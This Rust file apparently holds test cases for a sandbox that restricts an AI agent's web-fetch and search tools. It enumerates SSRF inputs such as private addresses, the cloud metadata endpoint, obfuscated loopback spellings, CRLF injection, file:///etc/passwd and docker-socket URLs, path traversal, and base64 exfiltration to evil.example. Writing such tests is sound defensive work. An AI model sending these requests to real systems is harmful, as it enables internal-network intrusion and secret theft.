//! The web (NW): pages that no rule allows, addresses that are not public, and
//! servers that do as they like.

use hermitage::defence::Defence;
use serde_json::json;

use crate::case::{Case, call};

const ALLOW: &str = "tools.web.allow";

pub(crate) fn cases() -> Vec<Case> {
    [addresses(), spellings(), redirects(), answers(), rules(), leaks()].concat()
}

fn fetch(id: impl Into<String>, url: &str) -> Case {
    call(id, "web_extract", "web_extract", json!({ "url": url }))
}

/// Under a rule for everything: the addresses themselves are what is refused.
fn addresses() -> Vec<Case> {
    let all = [
        "127.0.0.1",
        "127.255.255.254",
        "0.0.0.0",
        "10.0.0.1",
        "172.16.0.1",
        "172.31.255.255",
        "192.168.0.1",
        "169.254.169.254",
        "169.254.170.2",
        "100.64.0.1",
        "100.100.100.200",
        "192.0.0.192",
        "192.0.2.1",
        "198.18.0.1",
        "198.51.100.1",
        "203.0.113.1",
        "224.0.0.1",
        "239.255.255.250",
        "240.0.0.1",
        "255.255.255.255",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:169.254.169.254]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[2001:0:7f00:1::]",
        "[fe80::1]",
        "[fc00::1]",
        "[fd00:ec2::254]",
        "[ff02::1]",
        "[2001:db8::1]",
        "[100::1]",
        "[fec0::1]",
        "[5f00::1]",
    ];
    let id = |it: &str| format!("NW-1/{}", it.trim_matches(['[', ']']).replace(':', "."));
    let mut res: Vec<Case> = all
        .iter()
        .map(|it| {
            let rule = r#"["http://*:{EVIL_PORT}/"]"#;
            fetch(id(it), &format!("http://{it}:{{EVIL_PORT}}/")).config(ALLOW, rule)
        })
        .collect();
    res[0].held.push(crate::case::Held::By(Defence::PublicAddresses));
    res.push(
        fetch("NW-3/name-of-this-machine", "http://localhost:{EVIL_PORT}/")
            .config(ALLOW, r#"["http://localhost:{EVIL_PORT}/"]"#)
            .held_by(Defence::PublicAddresses),
    );
    res.push(fetch("NW-1/no-rule", "http://{EVIL}/").held_by(Defence::WebRules));
    res
}

/// One address in many ways.
fn spellings() -> Vec<Case> {
    let rule = r#"["http://*:{EVIL_PORT}/"]"#;
    [
        ("decimal", "http://2130706433:{EVIL_PORT}/"),
        ("hex", "http://0x7f000001:{EVIL_PORT}/"),
        ("octal", "http://0177.0.0.1:{EVIL_PORT}/"),
        ("short", "http://127.1:{EVIL_PORT}/"),
        ("percent", "http://%31%32%37.0.0.1:{EVIL_PORT}/"),
        ("full-width", "http://\u{ff11}\u{ff12}\u{ff17}.0.0.1:{EVIL_PORT}/"),
        ("circled", "http://\u{2460}\u{2461}\u{2466}.0.0.1:{EVIL_PORT}/"),
        ("ideographic-stop", "http://127\u{3002}0\u{3002}0\u{3002}1:{EVIL_PORT}/"),
        ("trailing-dot", "http://127.0.0.1.:{EVIL_PORT}/"),
        ("user", "http://user:pass@{EVIL}/"),
        ("user-that-looks-good", "http://docs.rs@{EVIL}/"),
        ("backslash", "http:\\\\{EVIL}\\"),
        ("tab", "ht\ttp://{EVIL}/"),
        ("line", "http://{EVIL}/\r\nX-Evil: 1"),
        ("zone", "http://[fe80::1%25eth0]/"),
        ("scheme-file", "file:///etc/passwd"),
        ("scheme-ftp", "ftp://{EVIL}/"),
        ("scheme-data", "data:text/plain,x"),
        ("scheme-unix", "unix:///run/docker.sock"),
        ("scheme-gopher", "gopher://{EVIL}/"),
        ("no-scheme", "{EVIL}/"),
        ("empty", ""),
        ("port-0", "http://127.0.0.1:0/"),
        ("port-99999", "http://127.0.0.1:99999/"),
        ("no-host", "http:///x"),
        ("name-with-a-space", "http://doc s.rs/"),
        ("zero-width", "http://127.0.0\u{200b}.1:{EVIL_PORT}/"),
    ]
    .map(|(id, url)| fetch(format!("NW-2/{id}"), url).config(ALLOW, rule))
    .to_vec()
}

/// Where a page sends its reader.
fn redirects() -> Vec<Case> {
    [
        ("forbidden", "http://127.0.0.1:EVIL_PORT/"),
        ("other-spelling", "http://2130706433:EVIL_PORT/"),
        ("ipv6", "http://[::1]:EVIL_PORT/"),
        ("mapped", "http://[::ffff:127.0.0.1]:EVIL_PORT/"),
        ("relative-scheme", "//127.0.0.1:EVIL_PORT/"),
        ("metadata", "http://169.254.169.254/latest/meta-data/"),
        ("file", "file:///etc/passwd"),
        ("data", "data:text/plain,x"),
        ("user", "http://u:p@127.0.0.1:EVIL_PORT/"),
        ("javascript", "javascript:alert(1)"),
        ("back", "/page"),
    ]
    .map(|(id, to)| {
        let case = fetch(format!("NW-4/{id}"), &format!("http://{{PAGES}}/to/{to}"));
        if id == "forbidden" { case.held_by(Defence::Redirects) } else { case }
    })
    .into_iter()
    .chain([
        fetch("NW-4/round", "http://{PAGES}/round").held_below("tools.web.max_redirects", "6"),
        fetch("NW-4/nowhere", "http://{PAGES}/nowhere"),
    ])
    .collect()
}

/// What servers answer.
fn answers() -> Vec<Case> {
    let page =
        |id: &str, path: &str| fetch(format!("NW-5/{id}"), &format!("http://{{PAGES}}{path}"));
    vec![
        page("too-long", "/long").held_below("tools.web.max_body_kib", "8192"),
        page("headers", "/headers"),
        page("image", "/image"),
        page("unknown-packing", "/packed"),
        page("packed-twice", "/twice"),
        page("shorter-than-it-says", "/short"),
        page("no-http", "/no-http"),
        page("error", "/error"),
        page("escapes", "/ansi"),
    ]
}

/// What the rules do not cover.
fn rules() -> Vec<Case> {
    let below = r#"["http://{PAGES}/docs/"]"#;
    let mut res: Vec<Case> = [
        ("up", "/docs/../page"),
        ("encoded", "/docs/%2e%2e/page"),
        ("encoded-slash", "/docs/..%2fpage"),
        ("twice-encoded", "/docs/%252e%252e/page"),
        ("semicolon", "/docs/..;/page"),
        ("prefix", "/docsecret"),
        ("case", "/DOCS/"),
    ]
    .map(|(id, path)| {
        fetch(format!("NW-8/{id}"), &format!("http://{{PAGES}}{path}")).config(ALLOW, below)
    })
    .to_vec();
    res.push(fetch("NW-9/other-port", "http://127.0.0.1:{EVIL_PORT}/"));
    res.push(fetch("NW-9/https", "https://{PAGES}/"));
    res.push(fetch("NW-8/nothing-allowed", "http://{PAGES}/").config(ALLOW, "[]"));
    res
}

/// A secret on its way out in a name or an address.
fn leaks() -> Vec<Case> {
    vec![
        fetch("NW-8/in-a-name", "http://c2VjcmV0.evil.example/"),
        fetch("NW-8/in-a-query", "http://evil.example/?d=c2VjcmV0"),
        call("NW-8/search", "web_search", "web_search", json!({"query": "c2VjcmV0"})),
    ]
}
